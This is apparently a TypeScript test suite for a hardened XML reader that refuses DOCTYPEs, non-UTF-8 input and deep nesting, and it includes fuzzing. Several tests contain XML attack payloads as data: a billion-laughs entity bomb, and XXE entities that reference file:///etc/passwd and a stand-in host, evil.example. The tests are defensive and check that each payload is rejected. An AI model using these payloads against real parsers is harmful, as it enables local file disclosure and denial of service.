import fc from 'fast-check';
import { SaxesParser } from 'saxes';
import { describe, expect, it, vi } from 'vitest';
import { readXml, type XmlHandler, type XmlLimits, type XmlReading, type XmlStartTag } from './safe-xml.js';

const bytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

/** Reads and records every event, so a test can say what the handler saw. */
function record(input: Uint8Array | string, limits: Partial<XmlLimits> = {}): { result: XmlReading; events: string[]; tags: XmlStartTag[] } {
  const events: string[] = [];
  const tags: XmlStartTag[] = [];
  const result = readXml(
    input,
    {
      open: (tag) => {
        tags.push(tag);
        events.push(`<${tag.name}>`);
      },
      text: (text) => {
        if (text.trim() !== '') events.push(text);
      },
      close: (name) => {
        events.push(`</${name}>`);
      },
    },
    limits,
  );
  return { result, events, tags };
}

const message = (result: XmlReading) => (result.ok ? undefined : result.problems.map((p) => p.message).join('\n'));

describe('readXml', () => {
  it('streams elements with namespaces resolved, attributes by name, and where each tag starts', () => {
    const xml = [
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:y="http://www.yworks.com/xml/graphml">',
      '  <node id="n0"><y:NodeLabel y:visible="true" xml:space="preserve">Acme &amp; Co<![CDATA[ <GmbH>]]></y:NodeLabel></node>',
      '</graphml>',
    ].join('\n');
    const { result, events, tags } = record(xml);
    expect(result).toEqual({ ok: true });
    expect(events).toEqual(['<graphml>', '<node>', '<NodeLabel>', 'Acme & Co', ' <GmbH>', '</NodeLabel>', '</node>', '</graphml>']);
    expect(tags.map((t) => [t.name, t.uri, t.line, t.column])).toEqual([
      ['graphml', 'http://graphml.graphdrawing.org/xmlns', 2, 1],
      ['node', 'http://graphml.graphdrawing.org/xmlns', 3, 3],
      ['NodeLabel', 'http://www.yworks.com/xml/graphml', 3, 17],
    ]);
    // xmlns declarations are not attributes; prefixed attributes carry their namespace.
    expect([...tags[0]!.attributes]).toEqual([]);
    expect([...tags[1]!.attributes]).toEqual([['id', 'n0']]);
    expect(Object.fromEntries(tags[2]!.attributes)).toEqual({
      '{http://www.yworks.com/xml/graphml}visible': 'true',
      '{http://www.w3.org/XML/1998/namespace}space': 'preserve',
    });
  });

  it('reads bytes and text alike, drops a UTF-8 byte-order mark, and accepts utf-8 in any case', () => {
    const xml = "<?xml version='1.0' encoding='utf-8'?><a>é</a>";
    for (const input of [xml, bytes(xml), bytes([0xef, 0xbb, 0xbf], xml), `\ufeff${xml}`]) {
      expect(record(input).events).toEqual(['<a>', 'é', '</a>']);
    }
  });

  it('refuses bytes that are not UTF-8, naming the byte, its offset and line', () => {
    const latin1 = readXml(bytes('<a>\n<b>M', [0xfc], 'ller</b></a>'), { open: () => {} });
    expect(message(latin1)).toBe(
      'not valid UTF-8 at byte 8 (line 2, column 5): 0xFC cannot appear there; save the file as UTF-8 (it may be Latin-1 or Windows-1252)',
    );
    expect(latin1).toMatchObject({ ok: false, kind: 'malformed' });
  });

  it('refuses UTF-16, with a byte-order mark or without one', () => {
    const utf16 = Buffer.from('<?xml version="1.0"?><a/>', 'utf16le');
    expect(message(readXml(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16]), { open: () => {} }))).toBe(
      'the input is UTF-16 (little-endian) text; save it as UTF-8',
    );
    expect(message(readXml(utf16, { open: () => {} }))).toBe('the input is UTF-16 (little-endian) text; save it as UTF-8');
    expect(message(readXml(utf16.swap16(), { open: () => {} }))).toBe('the input is UTF-16 (big-endian) text; save it as UTF-8');
  });

  it('refuses a declaration naming another encoding, before any element reaches the handler', () => {
    const { result, events } = record('<?xml version="1.0" encoding="ISO-8859-1"?>\n<a>M\u00fcller</a>');
    expect(result).toEqual({
      ok: false,
      kind: 'malformed',
      problems: [
        {
          pointer: '',
          message: 'the XML declaration says encoding="ISO-8859-1"; Foothold reads UTF-8 only: save the file as UTF-8 and declare encoding="UTF-8"',
        },
      ],
    });
    expect(events).toEqual([]);
  });

  it('refuses input over the size limit before reading it, and empty input', () => {
    expect(readXml(`<a>${'x'.repeat(2000)}</a>`, { open: () => {} }, { maxBytes: 1024 })).toEqual({
      ok: false,
      kind: 'too_large',
      problems: [{ pointer: '', message: 'the input is 2 kB; at most 1 kB is accepted' }],
    });
    expect(message(readXml(' \n', { open: () => {} }))).toBe('the input is empty; expected XML');
  });

  it('reports well-formedness errors with line and column', () => {
    expect(message(record('<a>\n  <b></a>').result)).toBe('not well-formed XML at line 2, column 9: unexpected close tag');
    expect(message(record('<a>\n<b>').result)).toBe('not well-formed XML at line 2, column 3: unclosed tag: b');
    expect(message(record('<a x="1" x="2"/>').result)).toBe('not well-formed XML at line 1, column 16: duplicate attribute: x');
    expect(message(record('<y:a/>').result)).toBe('not well-formed XML at line 1, column 6: unbound namespace prefix: "y"');
    expect(message(record('<a>&nbsp;</a>').result)).toBe(
      'not well-formed XML at line 1, column 9: undefined entity; without a DOCTYPE, XML knows only &amp; &lt; &gt; &quot; &apos; and numeric references such as &#233;',
    );
    expect(record('<a>&#0;</a>').result).toMatchObject({ ok: false, kind: 'malformed' });
    expect(record('<a/><b/>').result).toMatchObject({ ok: false, kind: 'malformed' });
  });

  it('refuses any DOCTYPE, even a harmless one, naming where it starts', () => {
    const { result, events } = record('<?xml version="1.0"?>\n<!DOCTYPE graphml SYSTEM "graphml.dtd">\n<graphml/>');
    expect(result).toEqual({
      ok: false,
      kind: 'invalid',
      problems: [
        {
          pointer: '',
          message:
            'a DOCTYPE declaration at line 2, column 1: Foothold refuses DOCTYPEs in XML it reads, so that no entity is ever expanded and no external file or URL is ever fetched; remove the <!DOCTYPE …> declaration',
        },
      ],
    });
    expect(events).toEqual([]);
  });

  it('refuses a billion-laughs document without expanding anything', () => {
    const entities = Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`);
    const laughs = ['<?xml version="1.0"?>', '<!DOCTYPE lolz [', '  <!ENTITY lol0 "lol">', ...entities, ']>', '<lolz>&lol9;</lolz>'].join('\n');
    const { result, events } = record(laughs);
    expect(result).toMatchObject({
      ok: false,
      kind: 'invalid',
      problems: [{ message: expect.stringMatching(/^a DOCTYPE declaration at line 2, column 1: /) as unknown }],
    });
    expect(events).toEqual([]); // not one "lol" reached the handler
  });

  it('refuses external entities (XXE) without fetching them, whole or cut off', () => {
    const xxe = '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<foo>&xxe;</foo>';
    const { result, events } = record(xxe);
    expect(result).toMatchObject({
      ok: false,
      kind: 'invalid',
      problems: [{ message: expect.stringContaining('no external file or URL is ever fetched') as unknown }],
    });
    expect(events).toEqual([]);
    const parameterEntity = '<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]><foo/>';
    expect(record(parameterEntity).result).toMatchObject({ ok: false, kind: 'invalid' });
    // A DOCTYPE that never ends, and one after the root, are refused as DOCTYPEs too.
    expect(message(record('<!DOCTYPE foo [\n<!ENTITY x "y">').result)).toMatch(/^a DOCTYPE declaration at line 1, column 1: /);
    expect(message(record('<a>\n<!DOCTYPE foo>\n</a>').result)).toMatch(/^a DOCTYPE declaration at line 2, column 1: /);
  });

  it('refuses nesting deeper than the limit, counting self-closing tags right', () => {
    const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    expect(record(nested(256)).result).toEqual({ ok: true });
    expect(record(nested(257)).result).toEqual({
      ok: false,
      kind: 'malformed',
      problems: [{ pointer: '', message: 'elements nested deeper than 256 levels at line 1; files Foothold reads are never that deep' }],
    });
    // A thousand siblings, self-closing or not, are one level each.
    expect(record(`<r>${'<a/><b></b>'.repeat(1000)}</r>`, { maxDepth: 2 }).result).toEqual({ ok: true });
    const deep = record(nested(100_000), { maxDepth: 10 });
    expect(deep.result).toMatchObject({ ok: false, kind: 'malformed' });
    expect(deep.events).toHaveLength(10);
  });

  it('refuses more elements than the limit', () => {
    expect(record(`<r>${'<a/>'.repeat(9)}</r>`, { maxElements: 10 }).result).toEqual({ ok: true });
    expect(record(`<r>${'<a/>'.repeat(10)}</r>`, { maxElements: 10 }).result).toEqual({
      ok: false,
      kind: 'too_large',
      problems: [{ pointer: '', message: 'more than 10 elements (the next at line 1); at most that many are accepted' }],
    });
  });

  it('stops where the handler says, with its message, and delivers nothing after', () => {
    const seen: string[] = [];
    const handler: XmlHandler = {
      open: (tag) => {
        seen.push(tag.name);
        if (tag.name === 'hyperedge') return `line ${tag.line}: a <hyperedge>; expected <edge>`;
      },
    };
    expect(readXml('<g>\n<edge/>\n<hyperedge/>\n<edge/></g>', handler)).toEqual({
      ok: false,
      kind: 'invalid',
      problems: [{ pointer: '', message: 'line 3: a <hyperedge>; expected <edge>' }],
    });
    expect(seen).toEqual(['g', 'edge', 'hyperedge']);
    expect(readXml('<g>text</g>', { open: () => {}, text: (t) => `no text please: ${t}` })).toMatchObject({
      ok: false,
      kind: 'invalid',
      problems: [{ message: 'no text please: text' }],
    });
    expect(readXml('<g><a/></g>', { open: () => {}, close: (name) => (name === 'g' ? 'closed g' : undefined) })).toMatchObject({
      problems: [{ message: 'closed g' }],
    });
  });

  it('lets a failing handler fail: its bugs are not reported as bad input', () => {
    expect(() =>
      readXml('<a/>', {
        open: () => {
          throw new TypeError('bug in the handler');
        },
      }),
    ).toThrow('bug in the handler');
  });

  it('gives saxes at most six handlers, which keeps its parser a fast V8 object', () => {
    // Each handler becomes a property of the parser; at seven, %HasFastProperties turns false and a
    // 74 MB GraphML file took 9 s instead of 3 s. A count, not a timing, guards it.
    const on = vi.spyOn(SaxesParser.prototype, 'on');
    try {
      readXml('<a>t<![CDATA[c]]></a>', { open: () => {}, text: () => {}, close: () => {} });
      expect(on.mock.calls.length).toBeLessThanOrEqual(6);
    } finally {
      on.mockRestore();
    }
  });

  it('never lets entity or attribute names reach a prototype', () => {
    expect(record('<a>&__proto__;&constructor;</a>').result).toMatchObject({ ok: false, kind: 'malformed' });
    const { result, tags } = record('<a __proto__="x" constructor="y"/>');
    expect(result).toEqual({ ok: true });
    expect(tags[0]!.attributes.get('__proto__')).toBe('x');
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
  });
});

/** Fuzzing the reader: whatever comes in, it answers with its own result and never throws or hangs. */
describe('readXml under fuzzing', () => {
  const runs = Number(process.env['FUZZ_RUNS'] ?? 1000);
  const quiet: XmlHandler = { open: () => {}, text: () => {}, close: () => {} };
  const wellFormedAnswer = (result: XmlReading) => {
    if (!result.ok) {
      expect(['too_large', 'malformed', 'invalid']).toContain(result.kind);
      expect(result.problems[0]?.message.length).toBeGreaterThan(0);
    }
  };

  it('never throws on arbitrary bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (input) => wellFormedAnswer(readXml(input, quiet, { maxBytes: 250 }))),
      { numRuns: runs },
    );
  });

  it('never throws on XML-shaped noise: tags, entities, declarations, DOCTYPEs and CDATA spliced at random', () => {
    const piece = fc.oneof(
      fc.constantFrom('<a>', '</a>', '<b x="1">', '</b>', '<a/>', '<y:c xmlns:y="u">', '</y:c>', '&amp;', '&lol;', '&#0;', '&#x1F600;', '<![CDATA[', ']]>'),
      fc.constantFrom(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.1"?>',
        '<!DOCTYPE a [<!ENTITY x "&x;&x;">]>',
        '<!--',
        '-->',
        '<?pi x?>',
        '"',
        "'",
        '=',
      ),
      fc.string({ unit: 'binary', maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => wellFormedAnswer(readXml(pieces.join(''), quiet))),
      { numRuns: runs },
    );
  });

  it('reads any nesting within the limit and refuses any beyond it', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 40 }), fc.integer({ min: 1, max: 40 }), fc.boolean(), (depth, maxDepth, selfClosingLeaf) => {
        const inner = selfClosingLeaf ? '<leaf/>' : '';
        const levels = depth + (selfClosingLeaf ? 1 : 0);
        const xml = `${'<n>'.repeat(depth)}${inner}${'</n>'.repeat(depth)}`;
        const result = readXml(xml, quiet, { maxDepth });
        expect(result.ok).toBe(levels <= maxDepth);
        if (!result.ok) expect(result.kind).toBe('malformed');
      }),
      { numRuns: runs },
    );
  });

  it('refuses every document with a DOCTYPE, whatever it declares, before the handler sees an element', () => {
    const declaration = fc.oneof(
      fc.constant('<!ENTITY a "b">'),
      fc.constant('<!ENTITY x SYSTEM "file:///etc/passwd">'),
      fc.constant('<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;'),
      fc.string({ unit: 'grapheme-ascii', maxLength: 20 }).map((s) => `<!ENTITY e "${s.replace(/["%&<]/g, '')}">`),
    );
    fc.assert(
      fc.property(fc.array(declaration, { maxLength: 5 }), fc.boolean(), (declarations, external) => {
        let opened = 0;
        const head = external ? '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"' : '<!DOCTYPE r';
        const xml = `${head} [${declarations.join('\n')}]>\n<r>&a;</r>`;
        const result = readXml(xml, { open: () => void opened++ });
        expect(result).toMatchObject({ ok: false, kind: 'invalid' });
        expect(opened).toBe(0);
      }),
      { numRuns: runs },
    );
  });
});
